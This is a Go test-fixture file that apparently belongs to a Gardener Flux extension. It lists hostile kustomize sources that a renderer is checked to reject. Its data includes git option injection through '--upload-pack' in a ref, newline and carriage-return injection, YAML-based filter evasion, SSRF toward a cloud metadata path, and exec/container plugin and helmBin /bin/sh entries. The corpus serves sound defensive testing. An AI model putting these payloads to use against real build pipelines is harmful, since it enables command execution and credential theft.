// SPDX-FileCopyrightText: The gardener-extension-shoot-flux contributors
//
// SPDX-License-Identifier: Apache-2.0

package kustomizer

import (
	"strings"
)

// hostile is a source that makes kustomize start git or send a request.
type hostile struct {
	name    string
	content files
	// starts and requests are what kustomize alone does with it. Both are false for what Flux's library refuses.
	starts, requests bool
}

// Parts of hostile sources. $HOST is a server that counts requests.
const (
	plainObject = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n"
	readsURL    = "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: g}\nfiles: ['x=http://$HOST/latest/meta-data']\n"
	readsFile   = "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: g}\nfiles: ['x=a.yaml']\n"
	putsURL     = `[{"op": "replace", "path": "/files/0", "value": "x=http://$HOST/x"}]`
)

// with returns a source with an object and a kustomization.yaml that lists it, unless it has resources of its own.
func with(kustomization string, more ...string) files {
	if !strings.Contains(strings.ToLower(kustomization), "resources") {
		kustomization = "resources: [a.yaml]\n" + kustomization
	}
	content := files{"cluster/kustomization.yaml": kustomization, "cluster/a.yaml": plainObject}
	for i := 0; i < len(more); i += 2 {
		content[more[i]] = more[i+1]
	}
	return content
}

// corpus returns the hostile sources.
func corpus() []hostile {
	starts := func(name string, content files) hostile { return hostile{name: name, content: content, starts: true} }
	requests := func(name string, content files) hostile {
		return hostile{name: name, content: content, requests: true}
	}
	both := func(name string, content files) hostile {
		return hostile{name: name, content: content, starts: true, requests: true}
	}
	neither := func(name string, content files) hostile { return hostile{name: name, content: content} }
	return []hostile{
		// Bases that kustomize clones.
		starts("a line break behind an option of git", with(`resources: ["file:///tmp?ref=--upload-pack%3Dtouch+/tmp/x%3B&x=\n"]`)),
		starts("a line break in front of a query", with(`resources: ["git@host:o/r\n?ref=main"]`)),
		starts("an option of git", with("resources: ['file:///tmp?ref=--upload-pack%3Dtouch+/tmp/x%3B']")),
		starts("a carriage return", with(`resources: ["ssh://git@host/o/r\r"]`)),
		starts("an address of scp with its directory", with("resources: ['evil@host:org/repo']", "cluster/evil@host:org/repo/kustomization.yaml", "resources: [a.yaml]", "cluster/evil@host:org/repo/a.yaml", plainObject)),
		starts("an address of scp without its directory", with("resources: ['evil@host:org/repo']")),
		starts("a user and a host with a directory of that name", with("resources: ['evil@host/org/repo']", "cluster/evil@host/org/repo/kustomization.yaml", "resources: [a.yaml]")),
		starts("forced Git with a directory of that name", with("resources: ['git::evil@host/org/repo']", "cluster/git::evil@host/org/repo/kustomization.yaml", "resources: [a.yaml]")),
		starts("SSH", with("resources: ['ssh://git@host/o/r']")),
		starts("SSH in a scheme with capitals", with("resources: ['sSh://host/o/r']")),
		starts("a repository in the source", with("resources: ['file://cluster/o/r']")),
		starts("GitHub without a scheme", with("resources: [github.com/o/r]", "cluster/github.com/o/r/kustomization.yaml", "resources: [a.yaml]")),
		starts("a double slash", with("resources: ['ssh://host/o/r//base?ref=v1&submodules=1']")),
		starts("an old field", with("bases: ['ssh://host/o/r']")),
		starts("a component", with("components: ['ssh://host/o/r']")),
		starts("a base of a base", with("resources: [../base]", "base/Kustomization", "resources: [../base2]", "base2/kustomization.yml", "resources: ['ssh://host/o/r']")),
		starts("a base of a component", with("components: [../part]", "part/kustomization.yaml", "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources: ['ssh://host/o/r']")),
		starts("a field in capitals", with("RESOURCES: ['ssh://host/o/r']")),
		starts("an escaped character", with(`resources: ["ssh\u003a//host/o/r"]`)),
		starts("a folded text", with("resources:\n- >-\n  ssh://host\n  /o/r")),
		starts("an alias", with("commonAnnotations: {u: &u 'ssh://host/o/r'}\nresources: [*u]")),
		starts("JSON", with(`{"resources": ["ssh://host/o/r"]}`)),
		starts("generators", with("generators: ['ssh://host/o/r']")),
		starts("transformers with a line break", with(`transformers: ["file:///tmp?ref=x&y=\n"]`)),
		starts("validators", with("validators: ['evil@host:o/r']")),
		starts("a directory of generators", with("generators: [g]", "cluster/g/kustomization.yaml", "resources: ['ssh://host/o/r']")),
		// kustomize requests these before it clones them.
		both("HTTP", with("resources: ['http://$HOST/o/r']")),
		both("HTTP in capitals", with("resources: ['HTTP://$HOST/o/r']")),
		both("transformers by HTTP", with("transformers: ['http://$HOST/o/r']")),
		// Files that kustomize requests.
		requests("a crd", with("crds: ['http://$HOST/x']")),
		requests("a configuration", with("configurations: ['http://$HOST/x']")),
		requests("a schema", with("openapi: {path: 'http://$HOST/absent'}")),
		requests("a schema of a base", with("resources: [../base]", "base/kustomization.yaml", "resources: [a.yaml]\nopenapi: {path: 'http://$HOST/absent'}", "base/a.yaml", plainObject)),
		requests("a patch", with("patches: [{path: 'http://$HOST/x'}]")),
		requests("a JSON patch", with("patchesJson6902: [{path: 'http://$HOST/x', target: {version: v1, kind: ConfigMap, name: a}}]")),
		requests("a strategic merge patch", with("patchesStrategicMerge: ['http://$HOST/x']")),
		requests("a replacement", with("replacements: [{path: 'http://$HOST/x'}]")),
		requests("a ConfigMap's file", with("configMapGenerator: [{name: g, files: ['http://$HOST/x']}]")),
		requests("a ConfigMap's file with a key", with("configMapGenerator: [{name: g, files: ['x=http://$HOST/x']}]")),
		requests("a ConfigMap's file by a merge", with("configMapGenerator: [{name: g, <<: {files: ['x=http://$HOST/x']}}]")),
		requests("a Secret's variables", with("secretGenerator: [{name: g, envs: ['http://$HOST/x']}]")),
		requests("a Secret's variables in the old field", with("secretGenerator: [{name: g, env: 'http://$HOST/x'}]")),
		// Generators and transformers with files of their own.
		requests("a generator in a file", with("generators: [g.yaml]", "cluster/g.yaml", readsURL)),
		requests("a generator in the second document of a file", with("generators: [g.yaml]", "cluster/g.yaml", strings.Replace(readsFile, "name: g", "name: h", 1)+"---\n"+readsURL)),
		requests("a generator in a list", with("generators: [g.yaml]", "cluster/g.yaml", "apiVersion: v1\nkind: List\nitems: [{apiVersion: builtin, kind: SecretGenerator, metadata: {name: g}, files: ['x=http://$HOST/x']}]")),
		requests("a generator as text", with("generators:\n- |\n  "+strings.ReplaceAll(readsURL, "\n", "\n  "))),
		requests("a generator in a directory", with("generators: [g]", "cluster/g/kustomization.yaml", "resources: [g.yaml]", "cluster/g/g.yaml", readsURL)),
		requests("a generator whose file a patch replaces", with("generators: [g]", "cluster/g/kustomization.yaml", "resources: [g.yaml]\npatches: [{target: {kind: ConfigMapGenerator}, patch: '"+putsURL+"'}]", "cluster/g/g.yaml", readsFile)),
		requests("a generator that a patch makes one", with("generators: [g]", "cluster/g/kustomization.yaml", "resources: [g.yaml]\npatches: [{target: {kind: ConfigMapGenerator}, patch: '[{\"op\": \"replace\", \"path\": \"/apiVersion\", \"value\": \"builtin\"}]'}]", "cluster/g/g.yaml", strings.Replace(readsURL, "builtin", "v1", 1))),
		requests("a generator that a generator makes", with("generators: [g]", "cluster/g/kustomization.yaml", "generators: [g.yaml]", "cluster/g/g.yaml", readsURL)),
		requests("a patch of a transformer", with("transformers: [t.yaml]", "cluster/t.yaml", "apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: t}\npath: http://$HOST/x")),
		requests("a JSON patch of a transformer", with("transformers: [t.yaml]", "cluster/t.yaml", "apiVersion: builtin\nkind: PatchJson6902Transformer\nmetadata: {name: t}\ntarget: {kind: ConfigMap, name: a}\npath: http://$HOST/x")),
		requests("a strategic merge patch of a transformer", with("transformers: [t.yaml]", "cluster/t.yaml", "apiVersion: builtin\nkind: PatchStrategicMergeTransformer\nmetadata: {name: t}\npaths: ['http://$HOST/x']")),
		requests("a replacement of a transformer", with("transformers: [t.yaml]", "cluster/t.yaml", "apiVersion: builtin\nkind: ReplacementTransformer\nmetadata: {name: t}\nreplacements: [{path: 'http://$HOST/x'}]")),
		requests("targets of a transformer", with("transformers: [t.yaml]", "cluster/t.yaml", "apiVersion: builtin\nkind: ValueAddTransformer\nmetadata: {name: t}\nvalue: a\ntargetFilePath: http://$HOST/x")),
		requests("a patch of a validator", with("validators: [t.yaml]", "cluster/t.yaml", "apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: t}\nPATH: http://$HOST/x")),
		// What Flux's library refuses, too.
		neither("a Helm chart", with("helmCharts: [{name: c, repo: 'http://$HOST/x'}]")),
		neither("a Helm chart in the old field", with("helmChartInflationGenerator: [{chartName: c, chartRepoUrl: 'http://$HOST/x', helmBin: /bin/sh}]")),
		neither("a Helm chart of a generator", with("generators: [g.yaml]", "cluster/g.yaml", "apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata: {name: g}\nname: c\nrepo: http://$HOST/x")),
		neither("a program", with("generators: [g.yaml]", "cluster/g.yaml", "apiVersion: example.com/v1\nkind: G\nmetadata: {name: g, annotations: {config.kubernetes.io/function: 'exec: {path: ./run.sh}'}}", "cluster/run.sh", "#!/bin/sh\ntouch x\n")),
		neither("a container", with("transformers: [g.yaml]", "cluster/g.yaml", "apiVersion: example.com/v1\nkind: G\nmetadata: {name: g, annotations: {config.kubernetes.io/function: 'container: {image: example.com/f, network: true}'}}")),
		neither("a scheme without slashes", with("configMapGenerator: [{name: g, files: ['x=http:$HOST']}]")),
		neither("two signs for a key", with("configMapGenerator: [{name: g, files: ['x=y=http://$HOST/x']}]")),
	}
}
